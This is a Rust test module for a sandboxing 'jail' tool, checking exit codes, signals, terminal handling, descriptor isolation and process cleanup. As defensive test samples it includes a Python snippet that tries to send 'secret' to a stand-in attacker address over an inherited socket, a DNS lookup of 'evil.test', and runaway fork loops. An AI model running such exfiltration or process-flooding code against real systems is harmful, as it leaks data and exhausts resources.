//! The exit status, signals and the terminal: as if the jail were not there.

use std::os::unix::process::ExitStatusExt;
use std::time::Duration;

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::jail::{Jail, quoted_binary};
use crate::running::Terminal;
use crate::suite::{Mode, Suite, both, once};
use crate::wait::poll_for;
use crate::world::World;

const SOON: Duration = Duration::from_secs(5);

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        codes_are_passed_on,
        caller_may_ignore_its_children,
        survivors_end_with_the_command,
        death_by_signal,
        command_not_found,
        command_not_executable,
        own_failure_is_125,
        blocked_with_success_is_122,
        streams_are_passed_on,
        signals_are_passed_on,
        stop_and_continue,
        interactive_shell,
        nothing_outlives_the_command,
        descriptors_of_the_caller_are_closed,
    );
    once!(suite, file_with_capabilities);
}

fn codes_are_passed_on(mode: Mode) {
    let world = World::new();
    for code in [0, 1, 2, 42, 122, 125, 126, 127, 128, 255] {
        Jail::new(&world, mode).run(["sh", "-c", &format!("exit {code}")]).assert_code(code);
    }
    world.assert_nothing_left();
}

/// Whose caller ignores SIGCHLD hears of no child of its own accord (waitpid(2)).
fn caller_may_ignore_its_children(mode: Mode) {
    let world = World::new();
    let ignoring = ["bash", "-c", "trap '' CHLD; exec \"$@\"", "bash"];
    let outcome = Jail::new(&world, mode).under(&ignoring).run(["grep", "SigIgn", "/proc/self/status"]);
    outcome.assert_code(0);
    let ignored = outcome.stdout.trim().rsplit('\t').next().unwrap();
    let ignored = u64::from_str_radix(ignored, 16).unwrap();
    assert_ne!(ignored & 1 << (Signal::SIGCHLD as i32 - 1), 0, "the job has what it would have without us");
    Jail::new(&world, mode).under(&ignoring).run(["sh", "-c", "exit 3"]).assert_code(3);
    world.assert_nothing_left();
}

/// They end with the command, and neither they nor their number keep it waiting.
fn survivors_end_with_the_command(mode: Mode) {
    let world = World::new();
    let script = "for i in $(seq 200); do (trap '' TERM; sleep 600) & done; \
                  for i in 1 2 3 4; do (while :; do (sleep 0.01 &); done) & done; exit 5";
    let outcome = Jail::new(&world, mode).within(Duration::from_secs(20)).run(["sh", "-c", script]);
    outcome.assert_code(5);
    world.assert_nothing_left();
}

fn death_by_signal(mode: Mode) {
    let world = World::new();
    for signal in [Signal::SIGHUP, Signal::SIGKILL, Signal::SIGSEGV, Signal::SIGTERM] {
        let outcome = Jail::new(&world, mode).run(["sh", "-c", &format!("kill -{} $$", signal as i32)]);
        outcome.assert_code(128 + signal as i32);
    }
}

fn command_not_found(mode: Mode) {
    let world = World::new();
    for command in ["no-such-command", "/no/such/command", "./no-such-command"] {
        Jail::new(&world, mode).run([command]).assert_code(127).assert_says(command).assert_says("not found");
    }
}

fn command_not_executable(mode: Mode) {
    let world = World::new();
    for command in ["/etc/passwd", "/etc"] {
        Jail::new(&world, mode).run([command]).assert_code(126).assert_says(command);
    }
}

/// As ping has on some systems.
fn file_with_capabilities() {
    let world = World::new();
    let script = "\
import os, shutil, sys
shutil.copy('/bin/true', 'capable')
os.setxattr('capable', 'security.capability', bytes.fromhex('0100000200200000000000000000000000000000'))
os.execvp(sys.argv[1], sys.argv[1:])
";
    let outcome = Jail::new(&world, Mode::Root).under(&["python3", "-c", script]).run(["./capable"]);
    outcome.assert_code(126).assert_says("capabilities (getcap)");
}

fn own_failure_is_125(mode: Mode) {
    let world = World::new();
    let outcome = Jail::new(&world, mode).option("--no-such-option").run(["touch", "started"]);
    outcome.assert_code(125).assert_says("--no-such-option");
    let jail =
        Jail::new(&world, mode).without_log_file().option("--log-file").option("/no/such/directory/log");
    let outcome = jail.run(["touch", "started"]);
    outcome.assert_code(125).assert_says("/no/such/directory/log");
    assert!(!world.files().home(mode).join("started").exists());
}

fn blocked_with_success_is_122(mode: Mode) {
    let world = World::new();
    let jail = Jail::new(&world, mode).option("--fail-on-blocked");
    jail.shell("getent hosts evil.test; true").assert_code(122);
    jail.shell("getent hosts evil.test; exit 3").assert_code(3);
    jail.run(["true"]).assert_code(0);
    Jail::new(&world, mode).shell("getent hosts evil.test; true").assert_code(0);
}

fn streams_are_passed_on(mode: Mode) {
    let world = World::new();
    let jail = Jail::new(&world, mode).input("from outside").directory("/usr/share");
    let outcome = jail.shell("cat; pwd; echo problem >&2; ls -l /proc/self/fd | wc -l");
    outcome.assert_success().assert_says("from outside/usr/share");
    assert!(outcome.stderr.contains("problem"), "{outcome}");
    // `total`, the three streams, and the directory that `ls` is reading.
    assert!(outcome.stdout.ends_with("\n5\n"), "no other descriptor comes along: {outcome}");
    Jail::new(&world, mode).env("FROM_OUTSIDE", "a b").shell("echo $FROM_OUTSIDE").assert_stdout("a b\n");
}

/// A listening socket, a connection that is open already, and a directory beneath which are the host's files.
fn descriptors_of_the_caller_are_closed(mode: Mode) {
    const INSIDE: &str = "\
import os, socket
for number in range(3, 1024):
    try: print(number, os.readlink('/proc/self/fd/%d' % number))
    except OSError: pass
try: socket.socket(fileno=7).send(b'secret'); print('sent')
except OSError: print('closed')
";
    let world = World::new();
    let around = |command: &str| {
        format!(
            "import os, socket, subprocess\n\
             listening = socket.create_server(('127.0.0.1', 0))\n\
             connected = socket.create_connection(('198.51.100.66', 80))\n\
             directory = os.open('/', os.O_RDONLY)\n\
             passed = {{3: listening.fileno(), 7: connected.fileno(), 250: directory}}\n\
             moved = {{number: os.dup2(os.dup(one), 900 + number) for number, one in passed.items()}}\n\
             for number, one in moved.items(): os.dup2(one, number)\n\
             subprocess.run({command} + ['/usr/bin/python3', '-c', {INSIDE:?}], pass_fds=tuple(passed), check=True)\n"
        )
    };
    let direct = Jail::direct(&world, mode);
    let jailed = direct.python(&around(&format!("['{}', 'run', '-q', '--']", quoted_binary())));
    jailed.assert_success().assert_stdout("closed\n");
    assert!(!world.attacker().heard(b"secret") && !world.wire().saw_bytes(b"secret"));
    direct.python(&around("[]")).assert_success().assert_says("sent");
    assert!(poll_for(SOON, || world.attacker().heard(b"secret").then_some(())).is_some());
}

fn signals_are_passed_on(mode: Mode) {
    let world = World::new();
    for signal in [Signal::SIGINT, Signal::SIGTERM, Signal::SIGHUP, Signal::SIGUSR1] {
        let number = signal as i32;
        let running = Jail::new(&world, mode).start([
            "bash",
            "-c",
            &format!("sleep 1000 & trap 'echo caught; kill $!; exit 7' {number}; echo ready; wait"),
        ]);
        running.wait_for("ready");
        running.signal(signal);
        running.finish().assert_code(7).assert_says("caught");
    }
    for signal in [Signal::SIGINT, Signal::SIGTERM, Signal::SIGHUP] {
        let running = Jail::new(&world, mode).start(["sh", "-c", "echo ready; exec sleep 1000"]);
        running.wait_for("ready");
        running.signal(signal);
        running.finish().assert_code(128 + signal as i32);
    }
    world.assert_nothing_left();
}

fn stop_and_continue(mode: Mode) {
    let world = World::new();
    let running = Jail::new(&world, mode).start(["bash", "-c", "echo ready; while :; do :; done"]);
    running.wait_for("ready");
    running.signal(Signal::SIGTSTP);
    assert!(state_becomes(running.pid(), 'T'), "the jail stops with its job");
    running.signal(Signal::SIGCONT);
    assert!(poll_for(SOON, || (state(running.pid())? != 'T').then_some(())).is_some(), "and goes on");
    running.signal(Signal::SIGTERM);
    running.finish().assert_code(128 + Signal::SIGTERM as i32);
}

fn interactive_shell(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    for jail in [Jail::direct(&world, mode), Jail::new(&world, mode).allow("good.test")] {
        use_shell(jail.terminal(["bash", "--norc", "-i"]));
    }
    world.assert_nothing_left();
}

/// Says when it starts and when it goes on after a stop, and repeats a line. What it says is not in its text.
const READER: &str = "import signal, sys; \
    signal.signal(signal.SIGCONT, lambda *_: print(\"contin\" + \"ued\")); \
    print(\"sta\" + \"rt\"); print(\"read-\" + sys.stdin.readline())";

fn use_shell(mut terminal: Terminal) {
    terminal.type_in("PS1='jail''> '\n");
    terminal.wait_for("jail> ");
    terminal.type_in("tty >/dev/null && echo terminal-$((1+1))\n");
    terminal.wait_for("terminal-2");
    terminal.type_in("curl -sS http://good.test/\n");
    terminal.wait_for("hello from good.test");
    terminal.wait_for("jail> ");
    // Interrupts the command and not the shell. The command itself says that it has the terminal.
    terminal.type_in("sh -c 'echo sta\"\"rt; exec sleep 1000'\n");
    terminal.wait_for("start");
    terminal.type_in("\u{3}");
    terminal.wait_for("jail> ");
    terminal.type_in("echo code-$?\n");
    terminal.wait_for("code-130");
    // Stops it, and takes it back.
    terminal.type_in(&format!("/usr/bin/python3 -uc '{READER}'\n"));
    terminal.wait_for("start");
    terminal.type_in("\u{1a}");
    terminal.wait_for("Stopped");
    terminal.wait_for("jail> ");
    terminal.type_in("fg\n");
    terminal.wait_for("continued");
    terminal.type_in("words\n");
    terminal.wait_for("read-words");
    terminal.wait_for("jail> ");
    terminal.type_in("exit 9\n");
    let status = terminal.finish();
    assert_eq!(status.code(), Some(9), "{:?}", status.signal());
}

fn nothing_outlives_the_command(mode: Mode) {
    let world = World::new();
    let script =
        "setsid sh -c 'sleep 1000' >/dev/null 2>&1 </dev/null & (sleep 1000 >/dev/null 2>&1 &) ; exit 3";
    Jail::new(&world, mode).shell(script).assert_code(3);
    world.assert_nothing_left();
}

fn state_becomes(pid: Pid, expected: char) -> bool {
    poll_for(SOON, || (state(pid)? == expected).then_some(())).is_some()
}

/// The process's state letter (`proc_pid_stat(5)`).
fn state(pid: Pid) -> Option<char> {
    kill(pid, None).ok()?;
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit_once(") ")?.1.chars().next()
}
